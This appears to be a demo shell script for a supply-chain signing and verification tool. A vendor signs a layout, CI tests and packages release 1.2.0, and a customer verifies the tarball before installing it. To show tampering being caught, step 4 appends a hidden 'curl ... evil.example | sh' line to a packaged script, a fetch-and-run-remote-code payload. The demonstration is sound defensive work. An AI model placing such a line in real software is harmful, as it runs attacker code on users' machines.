#!/usr/bin/env bash
# Signing an application package and verifying it as a customer would (see
# README.md): sam (the vendor's security officer) signs the layout once; for
# release 1.2.0 the CI system tests the application and rita packages it; a
# customer downloads the tarball with its layout and links, verifies it
# against sam's pinned key and installs it. Then a compromised mirror serves
# a trojaned tarball, and the customer's verification refuses it.
#
# Usage: bash run.sh
#   TOTO=path/to/toto  toto binary (default: bin/toto of this repository, else toto on PATH)
#   WORK=dir           work here (must be empty or absent) and keep it; default a
#                      fresh temporary directory, removed at the end unless KEEP=1
# Exit status: 0 if the genuine package verified and the trojaned one was refused.
set -euo pipefail

here=$(cd "$(dirname "$0")" && pwd)

# --- set-up: find toto, make a work directory (see ../lib.sh) ----------
. "$here/../lib.sh"
example_setup package

VERSION=1.2.0
cat <<'EOF'
A signed application package. sam signs a layout saying the CI system tests
app/ and rita packages exactly that; a customer verifies app-1.2.0.tar.gz
before installing it. Then a mirror serves a trojaned tarball.
EOF

# --- 1. the vendor: keys and the layout, signed once for every release ------
step "vendor: keys for sam (security officer), ci (CI system), rita (release engineer)"
mkdir -p vendor/keys
for who in sam ci rita; do
	(cd vendor && show toto key generate -o "$who")
done
cp vendor/ci.pub vendor/rita.pub vendor/keys/

step "sam: create and sign the layout"
cp "$here/layout.yaml" vendor/
(
	cd vendor
	show toto layout create layout.yaml -o root.layout
	show toto sign --key sam root.layout
)

# --- 2. release 1.2.0: CI tests, rita packages ------------------------------
step "ci: test"
mkdir -p release
cp -R "$here/app" "$here/tests" release/
(cd release && show toto run --step test --key ../vendor/ci -m app -m tests -p test-results.txt -- sh tests/greet_test.sh test-results.txt)

step "rita: package"
(cd release && show toto run --step package --key ../vendor/rita -m app -p "app-$VERSION.tar.gz" -- tar czf "app-$VERSION.tar.gz" app)

# The vendor's download site: the tarball and, beside it, its supply-chain
# metadata (the layout and the links).
mkdir -p site/"app-$VERSION.intoto"
cp release/"app-$VERSION.tar.gz" site/
cp vendor/root.layout release/*.link site/"app-$VERSION.intoto"/
cp vendor/sam.pub site/ # customers pin it once, e.g. from the vendor's documentation

# --- 3. a customer downloads, verifies, and only then installs ---------------
download() { # download DIR: what a customer fetches from the site (or a mirror)
	mkdir -p "$1/links" "$1/keys"
	cp site/"app-$VERSION.tar.gz" site/"app-$VERSION.intoto"/root.layout "$1/"
	cp site/"app-$VERSION.intoto"/*.link "$1/links/"
	cp site/sam.pub "$1/keys/"
}
# Reports go beside the verified directory, not in it: the layout's unpack
# inspection sees every file there and allows only the download.
verify() { # verify DIR [FLAG...]; the command line is shown on stderr, so stdout stays the report
	local dir=$1
	shift
	set -- toto verify --layout root.layout --layout-key keys/sam.pub --links links --param VERSION="$VERSION" "$@"
	printf '$ %s\n' "$*" >&2
	(cd "$dir" && "$@")
}

step "customer: download app-$VERSION.tar.gz, its layout and links; pin sam's key"
download customer
(cd customer && find . -type f | sort | sed 's|^\./|  |')

step "customer: verify, then install (as an install script would: JSON result, exit status decides)"
if verify customer --json >customer.verify.json; then
	echo "# customer.verify.json says:" && grep -m1 '"passed"' customer.verify.json
	echo "VERDICT: app-$VERSION.tar.gz PASSED verification"
else
	echo "VERDICT: the genuine package FAILED verification (unexpected); see customer.verify.json" >&2
	exit 1
fi
mkdir -p opt
show tar xzf customer/"app-$VERSION.tar.gz" -C opt
show sh opt/app/bin/greet customer

# --- 4. a compromised mirror serves a trojaned tarball ------------------------
step "attacker: a mirror serves app-$VERSION.tar.gz with a trojaned app/bin/greet"
mkdir evil
tar xzf site/"app-$VERSION.tar.gz" -C evil
printf 'curl -s https://evil.example/x | sh 2>/dev/null &\n' >>evil/app/bin/greet
download tampered
tar czf tampered/"app-$VERSION.tar.gz" -C evil app
echo "appended a line to app/bin/greet and re-packed app-$VERSION.tar.gz"

step "customer: verify the mirror's download (text report, and an HTML one)"
if verify tampered --report ../tampered.report.html; then
	echo "VERDICT: the trojaned package PASSED verification: the attack was NOT caught" >&2
	exit 1
else
	code=$?
	if [ "$code" -ne 1 ]; then
		echo "VERDICT: toto verify exited $code (a usage or input error), not 1 (verification failed)" >&2
		exit 1
	fi
	echo "VERDICT: the trojaned app-$VERSION.tar.gz was REJECTED (exit $code) and not installed: the attack was caught"
	echo "(HTML report: tampered.report.html in the work directory)"
fi
